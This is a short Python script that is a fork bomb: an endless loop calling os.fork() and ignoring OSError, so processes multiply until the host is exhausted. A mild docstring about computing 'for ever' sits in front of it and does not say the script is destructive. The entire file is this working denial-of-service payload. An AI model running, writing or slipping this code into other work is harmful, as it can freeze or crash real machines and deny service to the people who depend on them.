"""Computes for ever in all the processes that it can have."""

import os

while True:
    try:
        os.fork()
    except OSError:
        pass
